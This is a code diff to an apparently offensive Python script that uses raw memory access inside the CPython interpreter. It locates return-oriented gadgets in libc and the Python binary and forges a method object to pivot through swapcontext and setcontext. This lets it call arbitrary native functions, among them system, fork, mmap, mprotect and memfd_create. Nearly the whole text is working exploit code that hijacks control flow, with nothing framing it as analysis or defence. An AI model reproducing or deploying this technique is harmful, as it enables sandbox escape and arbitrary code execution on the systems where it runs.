@@ -81,41 +81,37 @@ class Image:
                 found.setdefault(self.name(symbol).decode(), self.bias + place)
         return found
 
-    def gadget(self, code):
-        for address, size in self.code:
-            place = memory.find(code, address, address + size)
-            if place >= 0:
-                return place
+    def find(self, code):
+        places = (memory.find(code, address, address + size) for address, size in self.code)
+        return next((place for place in places if place >= 0), None)
 
 
 python = Image(number_at(number_at(id(len) + 16) + 8))
 library = Image(python.imported(b"malloc"))
 functions = library.exported(
-    b"getcontext", b"setcontext", b"swapcontext", b"syscall", b"open", b"read", b"system", b"fork", b"mmap", b"mprotect", b"kill", b"memfd_create")
-pop_argument, keep_result = library.gadget(b"\x5f\xc3"), library.gadget(b"\x48\x89\x07\xc3")
+    b"setcontext", b"swapcontext", b"syscall", b"open", b"read", b"system", b"fork", b"mmap", b"mprotect", b"kill", b"memfd_create")
+
+def first_of(*codes):
+    return next(filter(None, (image.find(code) for code in codes for image in (library, python))))
+
+
+# Pieces of code that end with a return: one fills a register from the stack, one stores what a function returned where a register points.
+pop_argument = first_of(b"\x5f\xc3")
+pop_place, keep_result = next(
+    (first_of(bytes([0x58 + register, 0xC3])), first_of(bytes([0x48, 0x89, register, 0xC3])))
+    for register in (2, 7, 6, 1) if any(image.find(bytes([0x48, 0x89, register, 0xC3])) for image in (library, python)))
 
 arena = bytearray(1 << 18)
 room = number_at(id(arena) + 40) + 4095 & ~4095
 saved, wanted, definition, fake, result = room, room + 4096, room + 8192, room + 12288, room + 16384
 stack, strings = room + (1 << 17) + 8, room + (1 << 17) + 4096
 method = re.compile("x").match
+# Raises whatever it is called with: what is returned to Python must be an object, or an error.
+raises = number_at(number_at(id(io._io._IOBase.seek) + 40) + 8)
 
 
 def write(address, data):
     memory[address:address + len(data)] = data
-
-
-def call_with_two(function, first, second):
-    """Calls, with two arguments, what returns 0."""
-    write(definition, struct.pack("<4Q", number_at(number_at(id(method) + 16)), function, number_at(number_at(id(method) + 16) + 16), 0))
-    write(fake, bytes(memory[id(method):id(method) + 64]))
-    write(fake, struct.pack("<Q", 1 << 40))
-    write(fake + 16, struct.pack("<2Q", definition, first))
-    write(fake + 56, struct.pack("<Q", second))
-    try:
-        object_at(fake)()
-    except SystemError:
-        pass
 
 
 def call(function, *arguments):
@@ -127,13 +123,25 @@ def call(function, *arguments):
             argument, free = free, free + len(argument) + 16 & ~7
         numbers.append(argument & (1 << 64) - 1)
     numbers += [0] * (6 - len(numbers))
-    call_with_two(functions["getcontext"], wanted, 0)
+    # The registers to be loaded, in the order of ucontext_t, with a floating point unit at rest.
+    write(wanted, bytes(1024))
     for place, number in zip((104, 112, 136, 152, 40, 48), numbers):
         write(wanted + place, struct.pack("<Q", number))
     write(wanted + 160, struct.pack("<2Q", stack, functions.get(function, function)))
-    # Afterwards: keep what was returned, and go back to where this began.
-    write(stack, struct.pack("<6Q", pop_argument, result, keep_result, pop_argument, saved, functions["setcontext"]))
-    call_with_two(functions["swapcontext"], saved, wanted)
+    write(wanted + 224, struct.pack("<Q", wanted + 424))
+    write(wanted + 424, struct.pack("<7I", 0x37F, 0, 0xFFFF, 0, 0, 0, 0x1F80))
+    # Afterwards: keep what was returned, raise, and go back to where this began.
+    write(stack, struct.pack("<7Q", pop_place, result, keep_result, raises, pop_argument, saved, functions["setcontext"]))
+    # A method whose C function gets two numbers of ours: where to keep the present registers, and those to go on with.
+    form = number_at(id(method) + 16)
+    write(definition, struct.pack("<4Q", number_at(form), functions["swapcontext"], number_at(form + 16), 0))
+    write(fake, struct.pack("<Q", 1 << 40) + bytes(memory[id(method) + 8:id(method) + 64]))
+    write(fake + 16, struct.pack("<2Q", definition, saved))
+    write(fake + 56, struct.pack("<Q", wanted))
+    try:
+        object_at(fake)()
+    except OSError:
+        pass
     return number_at(result, "<q")
 
 
